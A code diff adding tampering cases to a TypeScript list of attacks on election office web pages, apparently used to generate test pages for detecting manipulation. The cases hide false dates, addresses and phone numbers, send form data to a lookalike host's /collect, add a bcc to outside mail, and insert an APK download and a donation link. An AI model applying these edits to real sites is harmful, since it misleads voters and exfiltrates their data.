@@ -1,5 +1,5 @@
 // Changes of facts outside the visible text, of contacts and of destinations.
-import { raw, every, below, t, turn, twin, POSTPONED, later } from './attack.ts'
+import { raw, every, tail, below, t, wrong, turn, twin, POSTPONED, later } from './attack.ts'
 import type { Change } from './attack.ts'
 import { iso, pad, esc } from './draw.ts'
 
@@ -33,6 +33,18 @@ export const ATTACKS_B: Change[] = [
   },
   // [ld-phone] The telephone in the structured data.
   { id: 'ld-phone', class: 'fact-hidden', do: (a, s) => within(a, LD, s.tel, turn(s.tel)) },
+  // [ld-address] The address of the office in the structured data.
+  {
+    id: 'ld-address',
+    class: 'fact-hidden',
+    do: (a, s) =>
+      within(
+        a,
+        LD,
+        `"streetAddress":"${s.addr}"`,
+        `"streetAddress":"${s.L.street(s.L.streets[3]!, 77)}"`,
+      ),
+  },
   // [ld-date] The day of the vote in the structured data.
   {
     id: 'ld-date',
@@ -45,6 +57,12 @@ export const ATTACKS_B: Change[] = [
     class: 'fact-hidden',
     do: (a) => within(a, LD, 'EventScheduled', 'EventPostponed'),
   },
+  // [time-datetime] The machine's date beside the readable one.
+  {
+    id: 'time-datetime',
+    class: 'fact-hidden',
+    do: (a, s) => every(a, `datetime="${iso(s.election)}T`, `datetime="${iso(s.election + 2)}T`),
+  },
   // [state-close] The closing hour in the state the page is drawn from.
   {
     id: 'state-close',
@@ -56,6 +74,12 @@ export const ATTACKS_B: Change[] = [
     id: 'state-api',
     class: 'fact-hidden',
     do: (a, s) => inState(a, s.origin + '/api', `https://api.${twin(s)}/api`),
+  },
+  // [state-phone] The telephone in the state.
+  {
+    id: 'state-phone',
+    class: 'fact-hidden',
+    do: (a, s) => inState(a, `"phone":"${s.tel}"`, `"phone":"${wrong(s.tel)}"`),
   },
   // [state-stations] Two station addresses exchanged in the state.
   {
@@ -81,6 +105,17 @@ export const ATTACKS_B: Change[] = [
       }
     },
   },
+  // [og-description] The text that social networks show.
+  {
+    id: 'og-description',
+    class: 'fact-hidden',
+    do: (a, s) =>
+      raw(
+        a,
+        /<meta property="og:description" content="[^"]*">/,
+        `<meta property="og:description" content="${t(s, POSTPONED)}">`,
+      ),
+  },
   // [description-date] The description for search engines names another day.
   {
     id: 'description-date',
@@ -97,6 +132,13 @@ export const ATTACKS_B: Change[] = [
     id: 'title-postponed',
     class: 'fact-hidden',
     do: (a, s) => raw(a, '</title>', ` – ${t(s, POSTPONED)}</title>`),
+  },
+  // [canonical-host] The canonical address at another host.
+  {
+    id: 'canonical-host',
+    class: 'fact-hidden',
+    do: (a, s) =>
+      raw(a, `rel="canonical" href="${s.origin}`, `rel="canonical" href="https://${twin(s)}`),
   },
   // [hreflang-host] The other languages at another host.
   {
@@ -120,6 +162,17 @@ export const ATTACKS_B: Change[] = [
         `alt="${esc(s.stations[0]!.name + ', ' + s.stations[1]!.addr)}"`,
       ),
   },
+  // [aria-label] What a screen reader says differs from what is written.
+  {
+    id: 'aria-label',
+    class: 'fact-hidden',
+    do: (a, s) =>
+      raw(
+        a,
+        'id="hours"',
+        `id="hours" aria-label="${esc(s.L.hours(s.L.span(s.open, s.close - 4), later(s, 1)))}"`,
+      ),
+  },
   // [og-url] The address that social networks keep.
   {
     id: 'og-url',
@@ -137,6 +190,13 @@ export const ATTACKS_B: Change[] = [
     class: 'fact-hidden',
     do: (a, s) => within(a, LD, `"closes":"${pad(s.officeTo)}:00"`, '"closes":"12:00"'),
   },
+  // [ld-url] The office has another address on the web, in the structured data.
+  {
+    id: 'ld-url',
+    class: 'fact-hidden',
+    do: (a, s) => within(a, LD, `"url":"${s.origin}/"`, `"url":"https://${twin(s)}/"`),
+  },
+
   // [whatsapp-number] The WhatsApp account of somebody else.
   {
     id: 'whatsapp-number',
@@ -148,6 +208,12 @@ export const ATTACKS_B: Change[] = [
     id: 'telegram-account',
     class: 'contact',
     do: (a, s) => every(a, 't.me/' + s.tg, 't.me/' + s.tg.replace('_vote', '_votes')),
+  },
+  // [tel-target] The number that is dialled differs from the one that is written.
+  {
+    id: 'tel-target',
+    class: 'contact',
+    do: (a, s) => every(a, 'href="tel:' + s.tel, 'href="tel:' + wrong(s.tel)),
   },
   // [mailto-target] The mail goes elsewhere than written.
   {
@@ -161,6 +227,12 @@ export const ATTACKS_B: Change[] = [
     class: 'contact',
     do: (a, s) =>
       every(a, `mailto:${s.mail}"`, `mailto:${s.mail}?bcc=office.vote${s.n}@mail.example"`),
+  },
+  // [map-point] The map shows another place.
+  {
+    id: 'map-point',
+    class: 'contact',
+    do: (a, s) => every(a, `?q=${s.lat},${s.lon}`, `?q=${(+s.lat + 0.031).toFixed(5)},${s.lon}`),
   },
   // [map-station] The map of one station shows another place.
   {
@@ -178,6 +250,17 @@ export const ATTACKS_B: Change[] = [
     id: 'qr-picture',
     class: 'contact',
     do: (a, s) => every(a, `/media/qr-${s.n}.png`, `/media/uploads/qr-${s.n}-2.png`),
+  },
+  // [signal-added] A new account to write to.
+  {
+    id: 'signal-added',
+    class: 'contact',
+    do: (a, s) =>
+      raw(
+        a,
+        `<h3>${s.L.ui['office']}`,
+        `<p>Signal <a href="https://signal.me/#p/+${turn(s.wa)}">${s.L.ui['chat']!.replace('WhatsApp', 'Signal').replace('واتساب', 'Signal')}</a></p><h3>${s.L.ui['office']}`,
+      ),
   },
   // [callback-number] A sentence with a number of high cost.
   {
@@ -198,6 +281,17 @@ export const ATTACKS_B: Change[] = [
   },
   // [form-get] The form shows what it sends.
   { id: 'form-get', class: 'destination', do: (a) => raw(a, / method="post">/, ' method="get">') },
+  // [form-recipient] The hidden recipient of the form.
+  {
+    id: 'form-recipient',
+    class: 'destination',
+    do: (a, s) =>
+      every(
+        a,
+        `name="recipient" value="${s.mail}"`,
+        `name="recipient" value="office-${s.n}@mail.example"`,
+      ),
+  },
   // [form-next] The page that follows after sending.
   {
     id: 'form-next',
@@ -210,6 +304,13 @@ export const ATTACKS_B: Change[] = [
     id: 'register-link',
     class: 'destination',
     do: (a, s) => every(a, 'href="/register"', `href="https://register-vote-${s.n}.example/"`),
+  },
+  // [redirect-parameter] The way back after signing in.
+  {
+    id: 'redirect-parameter',
+    class: 'destination',
+    do: (a, s) =>
+      every(a, 'return=%2Fregister%2Fstatus', `return=https%3A%2F%2F${twin(s)}%2Fstatus`),
   },
   // [provider-form] A form of a well-known provider.
   {
@@ -228,6 +329,17 @@ export const ATTACKS_B: Change[] = [
     do: (a, s) =>
       raw(a, '<meta charset="utf-8">', `<meta charset="utf-8">\n<base href="https://${twin(s)}/">`),
   },
+  // [button-action] The button has a destination of its own.
+  {
+    id: 'button-action',
+    class: 'destination',
+    do: (a, s) =>
+      raw(
+        a,
+        '<button type="submit"',
+        `<button type="submit" formaction="https://${twin(s)}/collect"`,
+      ),
+  },
   // [results-link] The link to the results leads elsewhere.
   {
     id: 'results-link',
@@ -245,6 +357,16 @@ export const ATTACKS_B: Change[] = [
         `href="https://files-vote.example/guide-${s.n}.pdf"`,
       ),
   },
+  // [app-download] A program to install.
+  {
+    id: 'app-download',
+    class: 'destination',
+    do: (a, s) =>
+      below(
+        a,
+        `<p><a href="/media/uploads/vote-${s.n}.apk" download>${t(s, { en: 'Download our new voting app', fr: 'Téléchargez notre nouvelle application', es: 'Descargue nuestra nueva aplicación', pt: 'Baixe nosso novo aplicativo', de: 'Laden Sie unsere neue App', ru: 'Скачайте наше новое приложение', ar: 'حملوا تطبيقنا الجديد', zh: '下载我们的新应用' })}</a></p>`,
+      ),
+  },
   // [user-info] A link that looks like the site's own and is not.
   {
     id: 'user-info',
@@ -256,6 +378,16 @@ export const ATTACKS_B: Change[] = [
     id: 'search-host',
     class: 'destination',
     do: (a, s) => raw(a, 'action="/search"', `action="https://find.${twin(s)}/search"`),
+  },
+  // [donation-link] A request for money.
+  {
+    id: 'donation-link',
+    class: 'destination',
+    do: (a, s) =>
+      tail(
+        a,
+        `<p><a href="https://www.paypal.com/donate/?hosted_button_id=${s.ga.slice(2)}">${t(s, { en: 'Support our work with a donation', fr: 'Soutenez-nous par un don', es: 'Apóyenos con una donación', pt: 'Apoie-nos com uma doação', de: 'Unterstützen Sie uns mit einer Spende', ru: 'Поддержите нас пожертвованием', ar: 'ادعمونا بتبرع', zh: '捐款支持我们' })}</a></p>`,
+      ),
   },
   // [privacy-link] The link about privacy runs script.
   {
